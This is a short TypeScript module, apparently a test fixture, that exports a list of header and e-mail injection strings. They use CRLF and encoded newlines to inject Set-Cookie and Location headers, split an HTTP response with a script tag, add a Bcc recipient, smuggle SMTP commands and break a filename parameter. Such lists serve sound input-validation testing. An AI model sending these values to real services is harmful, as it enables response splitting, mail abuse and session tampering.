/** Text that would add a line or a parameter to a header, a response or an e-mail. */
export const headers: readonly string[] = [
  'x\r\nSet-Cookie: a=b',
  'x\nSet-Cookie: a=b',
  'x\r\n\r\n<script>ran(1)</script>',
  'x%0d%0aSet-Cookie:%20a=b',
  'x%0aLocation:%20https://foreign.example/',
  'x\u560a\u560dSet-Cookie: a=b',
  'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>ran(1)</script>',
  'x\r\nBcc: x@foreign.example',
  'x\r\n.\r\nMAIL FROM:<x@foreign.example>',
  'x"; filename="page.html"; x="',
];
